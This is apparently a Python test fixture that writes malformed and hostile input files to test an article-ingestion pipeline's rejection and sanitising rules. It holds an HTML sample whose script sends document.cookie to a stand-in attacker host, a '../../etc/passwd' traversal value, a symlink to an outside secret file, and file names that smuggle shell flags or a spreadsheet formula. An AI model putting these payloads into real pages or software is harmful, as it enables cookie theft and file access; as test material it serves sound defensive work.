"""A corpus of bad and hostile inputs, generated on disk by the tests (no committed binaries).

:func:`write_hostile_corpus` writes every case and returns what must become of each file:
``("article", None)`` or ``("rejected", reason)``. Files of a JSON Lines collection are listed
per record (``file.jsonl#<line>``).
"""

from __future__ import annotations

import json
import os
from pathlib import Path

N_BULK = 10_000
BULK_DIR = "bulk"
HUGE_BYTES = 50 * 1024 * 1024

STORY = (
    "Chile and Peru sign coastal patrol accord\n\n"
    "LIMA, March 3, 2023 - Chile and Peru signed a coastal patrol agreement in Lima on Friday, "
    "the two navies said in a joint statement."
)
FRENCH = (
    "Le Chili et le Pérou signent un accord de patrouille côtière\n\n"
    "Le Chili et le Pérou ont signé vendredi à Lima un accord de patrouille côtière, ont annoncé "
    "les deux marines dans un communiqué commun. Les ministres de la Défense se sont félicités "
    "de cette coopération renforcée entre les deux pays voisins."
)
HOSTILE_HTML = """<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0; url=http://attacker.invalid/steal">
<title>Kenya and Tanzania agree border security pact</title>
<script src="http://attacker.invalid/x.js"></script>
<script>fetch("http://attacker.invalid/beacon?c=" + document.cookie); var SECRET_SCRIPT = 1;</script>
<link rel="stylesheet" href="http://attacker.invalid/style.css">
</head><body>
<article>
<h1>Kenya and Tanzania agree border security pact</h1>
<p>NAIROBI, May 4, 2024 - Kenya and Tanzania signed a border security pact in Nairobi on Saturday,
officials of both governments said.</p>
<img src="http://attacker.invalid/pixel.gif" width="1" height="1">
<iframe src="http://attacker.invalid/frame.html">IFRAME_FALLBACK_TEXT</iframe>
<p>The agreement covers joint patrols along the frontier and the sharing of intelligence on
smuggling networks, the statement added.</p>
</article>
</body></html>
"""


def _write(root: Path, rel: str, content: str | bytes) -> Path:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    return path


def _story(n: int) -> str:
    """A distinct short story, so no two generated articles are duplicates."""
    return STORY.replace("coastal patrol", f"coastal patrol (number {n})")


def write_hostile_corpus(root: Path, outside: Path) -> dict[str, tuple[str, str | None]]:
    """Write the corpus under ``root`` (and a target under ``outside``); return the expectations."""
    expect: dict[str, tuple[str, str | None]] = {}

    def case(rel: str, content: str | bytes, outcome: str, reason: str | None = None) -> None:
        _write(root, rel, content)
        expect[rel] = (outcome, reason)

    case("empty.txt", b"", "rejected", "empty")
    case("binary.txt", bytes(range(256)) * 64, "rejected", "unreadable")
    case("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(500), "rejected", "unsupported")
    with (root / "huge.txt").open("wb") as fh:
        line = (_story(0).replace("\n", " ") + "\n").encode()
        fh.write(line * (HUGE_BYTES // len(line) + 1))
    expect["huge.txt"] = ("rejected", "too_long")
    # Not UTF-8 and not Windows-1252 either: 0x81 and 0x8d are undefined in Windows-1252.
    case(
        "invalid_utf8.txt",
        b"Talks \x81\x8d\xc3 held in Lima between the two navies.",
        "rejected",
        "unreadable",
    )
    case("windows1252.txt", _story(1).replace(" - ", " \u2013 ").encode("cp1252"), "article")
    case("utf16_bom.txt", _story(2).encode("utf-16"), "article")
    case("hostile.html", HOSTILE_HTML, "article")
    case("malformed.json", '{"text": "Chile and Peru signed', "rejected", "malformed")
    good = [json.dumps({"text": _story(3)}), "{not json at all", json.dumps({"text": _story(4)})]
    _write(root, "feed.jsonl", "\n".join(good) + "\n")
    expect.update({"feed.jsonl#1": ("article", None), "feed.jsonl#2": ("rejected", "malformed")})
    expect["feed.jsonl#3"] = ("article", None)

    _write(outside, "secret.txt", "Private notes that must never be read into the dataset.")
    os.symlink(outside / "secret.txt", root / "link_outside.txt")
    expect["link_outside.txt"] = ("rejected", "unreadable")

    case("name with spaces.txt", _story(5), "article")
    case("rapport-été-北京.txt", _story(6), "article")
    case("-rf.txt", _story(7), "article")
    case("--help.md", _story(8), "article")
    case("=HYPERLINK(1).txt", _story(9), "article")
    bad_name = os.fsdecode(b"bad-\xff-name.txt")
    _write(root, bad_name, _story(10))
    expect["bad-\\xff-name.txt"] = ("rejected", "unreadable")

    case("wrong_date.txt", _story(11), "article")
    case("wrong_date.meta.json", json.dumps({"published": "2023-02-30"}), "rejected", "malformed")
    case("unknown_keys.txt", _story(12), "article")
    case(
        "unknown_keys.meta.json",
        json.dumps({"published": "2023-03-03", "author": "x"}),
        "rejected",
        "malformed",
    )
    case("dotdot.txt", _story(13), "article")
    case("dotdot.meta.json", json.dumps({"url": "../../etc/passwd"}), "rejected", "malformed")
    case("good.txt", _story(14), "article")
    case("good.meta.json", json.dumps({"published": "2023-03-03", "outlet": "Wire"}), "article")

    case("french.txt", FRENCH, "rejected", "not_english")
    case("a_original.txt", _story(15), "article")
    case("b_copy.txt", _story(15), "rejected", "duplicate")

    for n in range(N_BULK):
        case(
            f"{BULK_DIR}/line_{n:05d}.txt",
            f"Bulletin {n}: the harbour office published shipping notice {n}.\n",
            "article",
        )
    return expect
